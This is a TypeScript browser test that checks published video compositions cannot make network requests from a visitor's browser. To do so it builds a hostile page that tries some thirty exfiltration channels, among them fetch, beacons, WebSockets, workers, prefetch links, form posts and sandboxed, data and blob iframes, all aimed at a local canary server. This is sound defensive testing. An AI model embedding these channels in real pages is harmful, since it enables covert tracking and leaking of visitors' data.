import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { findBrowser } from '@vid/browser'
import { expect, onTestFinished, test } from 'vitest'
import { BROWSER_PATIENCE_MS } from '../../../../../scripts/dev/browser-patience.ts'
import { page, startCloud } from '../fixtures/cloud.ts'
import { addPublicationRoutes } from './publication-routes.ts'

/** A server elsewhere on this machine, which nothing of a composition may reach: requests count, and connections that carry none. */
const startCanary = async () => {
  const reached: string[] = []
  const count = { connections: 0 }
  const server = createServer(({ url = '' }, reply) => {
    reached.push(url)
    reply.writeHead(200, { 'access-control-allow-origin': '*' }).end()
  })
  server.on('connection', () => {
    count.connections += 1
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  onTestFinished(() => {
    server.closeAllConnections()
    server.close()
  })
  const reset = () => {
    reached.length = 0
    count.connections = 0
  }
  return { reached, count, reset, url: `http://127.0.0.1:${port}` }
}

/** What a document tries, each under its own name; it must run in any kind of frame. */
const attempts = (canary: string, from: string) => `
const at = (how) => '${canary}/${from}-' + how
const quietly = (what) => { try { Promise.resolve(what()).catch(() => {}) } catch {} }
quietly(() => fetch(at('fetch'), { mode: 'no-cors' }))
quietly(() => navigator.sendBeacon(at('beacon'), 'x'))
quietly(() => { new Image().src = at('image') })
quietly(() => { const x = new XMLHttpRequest(); x.open('GET', at('xhr')); x.send() })
quietly(() => new EventSource(at('events')))
quietly(() => new WebSocket(at('socket').replace('http', 'ws')))
quietly(() => import(at('import')))
quietly(() => open(at('window')))
for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'stylesheet', 'icon', 'modulepreload', 'prerender', 'manifest']) quietly(() => {
  const link = document.createElement('link')
  Object.assign(link, { rel, href: at(rel) })
  if (rel === 'preload') link.as = 'image'
  document.head.append(link)
})
quietly(() => {
  const rules = document.createElement('script')
  rules.type = 'speculationrules'
  rules.textContent = JSON.stringify({ prefetch: [{ urls: [at('rules')], eagerness: 'immediate' }] })
  document.head.append(rules)
})
const body = document.body ?? document.documentElement
quietly(() => {
  body.insertAdjacentHTML('beforeend', '<form method=post action="' + at('form') + '"></form><a ping="' + at('ping') + '" href="#x"></a><video src="' + at('video') + '"></video><object data="' + at('object') + '"></object><embed src="' + at('embed') + '"><div style="background:url(' + at('css') + ')">x</div><iframe src="' + at('frame') + '"></iframe><svg><image href="' + at('svg') + '" width="1" height="1"/></svg>')
  document.querySelector('a[ping]').click()
  // It leaves the document, which ends the other attempts.
  setTimeout(() => document.querySelector('form').submit(), 1500)
})
const send = "try { fetch('" + at('worker') + "', { mode: 'no-cors' }).catch(() => {}) } catch {}; try { importScripts('" + at('scripts') + "') } catch {}"
quietly(() => new Worker(URL.createObjectURL(new Blob([send]))))
quietly(() => new Worker('data:text/javascript,' + encodeURIComponent(send)))
quietly(() => new SharedWorker('data:text/javascript,' + encodeURIComponent(send)))
`

const script = (text: string) => `<script>${text}</${'script'}>`

/** The composition itself and every kind of frame in it try all of it. */
const hostile = (canary: string) => {
  const inner = (name: string) => `<!doctype html><body>${script(attempts(canary, name))}</body>`
  const frames = {
    data: `'data:text/html,' + encodeURIComponent(inner.data)`,
    blob: `URL.createObjectURL(new Blob([inner.blob], { type: 'text/html' }))`,
    nested: `'nested.html'`,
    picture: `'picture.svg'`,
  }
  const names = ['data', 'blob', 'sandboxed', 'srcdoc', 'credentialless']
  const texts = Object.fromEntries(names.map((name) => [name, inner(name)]))
  const code = `
const inner = ${JSON.stringify(texts).replaceAll('</', '<\\/')}
const frame = (attributes) => { const made = document.createElement('iframe'); for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value); document.body.append(made); return made }
${Object.values(frames)
  .map((src) => `frame({ src: ${src} }); frame({ src: ${src}, sandbox: 'allow-scripts allow-forms allow-popups' })`)
  .join('\n')}
frame({ srcdoc: inner.sandboxed, sandbox: 'allow-scripts allow-forms allow-popups' })
frame({ srcdoc: inner.srcdoc })
frame({ srcdoc: inner.credentialless, credentialless: '' })
frame({ src: 'about:blank' }).contentWindow.location = '${canary}/blank-location'
const deep = '<iframe sandbox="allow-scripts" src' + 'doc="' + inner.sandboxed.replaceAll('&', '&amp;').replaceAll('"', '&quot;') + '"></iframe>'
frame({ src: 'data:text/html,' + encodeURIComponent(deep) })
frame({ srcdoc: deep, sandbox: 'allow-scripts' })
${attempts(canary, 'composition')}
window.__tried = true
`
  return {
    'index.html': page().replace('</body>', `${script(code)}<img src="${canary}/markup-image"></body>`),
    'nested.html': inner('nested'),
    'picture.svg': `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[fetch('${canary}/picture-fetch', { mode: 'no-cors' })]]></script><image href="${canary}/picture-image" width="1" height="1"/></svg>`,
  }
}

const publishFiles = async (files: Readonly<Record<string, string>>) => {
  const cloud = await startCloud(
    {},
    {
      addRoutes: [
        ({ app, database, publicUrl, play }) =>
          addPublicationRoutes({
            app,
            database,
            publicUrl,
            play,
            addressesOf: async () => ({ video_url: null, thumbnail_url: null, poster_url: null, playlist_url: null }),
          }),
      ],
    },
  )
  const { json } = await cloud.submit(await cloud.asset(files))
  const publication = await cloud.post('/v3/vid/publications', { render_id: json.data.render_id })
  return publication.json.data.url
}

/** Serves files as any site does, without a policy. */
const serveFiles = async (files: Readonly<Record<string, string>>): Promise<string> => {
  const server = createServer(({ url = '' }, reply) => {
    const name = new URL(url, 'http://any').pathname.slice(1)
    const text = files[name]
    const type = name.endsWith('.svg') ? 'image/svg+xml' : 'text/html'
    reply.writeHead(text === undefined ? 404 : 200, { 'content-type': type }).end(text)
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  onTestFinished(() => {
    server.closeAllConnections()
    server.close()
  })
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`
}

/** The frames of a composition, by the names that they try under. */
const FRAMES = ['composition', 'nested', 'data', 'blob', 'sandboxed', 'srcdoc', 'credentialless', 'picture', 'blank']

const launch = async () => {
  const { chromium } = await import('playwright-core')
  const { path } = await findBrowser()
  const browser = await chromium.launch({ executablePath: path, args: ['--no-sandbox'], timeout: BROWSER_PATIENCE_MS })
  onTestFinished(() => browser.close())
  const context = await browser.newContext()
  context.setDefaultTimeout(BROWSER_PATIENCE_MS)
  return context
}

test('nothing of a published composition sends from the browser of its visitor, in whatever frame it runs', async () => {
  const canary = await startCanary()
  const address = await publishFiles(hostile(canary.url))
  const context = await launch()

  // The same files without the policy: every frame tries, in every way. What it has begun may arrive late.
  const other = await startCanary()
  const control = await context.newPage()
  await control.goto(`${await serveFiles(hostile(other.url))}/index.html`)
  const tried = () => new Set(other.reached.map((url) => url.slice(1).split('-')[0]))
  await expect.poll(() => [...tried()].sort()).toEqual(expect.arrayContaining(FRAMES))
  await control.close()
  const page = await context.newPage()
  await page.goto(address)
  const frame = await page.waitForSelector('vid-player').then(async () => {
    await expect.poll(() => page.frames().length).toBeGreaterThan(5)
    return page.frames().find((frame) => /\.localhost:\d+\/index\.html/.test(frame.url()))
  })
  const played = frame?.url() ?? ''
  expect(played).toContain('.localhost:')
  await frame?.waitForFunction('window.__tried')
  await page.waitForTimeout(3000)
  const location = frame?.evaluate(`location.href = '${canary.url}/location'`)
  await location?.catch(() => {})
  await page.waitForTimeout(1000)
  expect([canary.reached, canary.count]).toEqual([[], { connections: 0 }])

  // The canary can be reached: this page, which is nobody's composition, does so.
  const open = await context.newPage()
  await open.goto(`${canary.url}/open`)
  expect(canary.reached).toContain('/open')

  // Opened without the page around it, a composition runs nothing.
  canary.reset()
  const alone = await context.newPage()
  await alone.goto(played, { waitUntil: 'load' })
  expect(await alone.evaluate('window.__tried').catch(() => undefined)).toBeUndefined()
  expect(canary.reached).toEqual([])
}, 300_000)
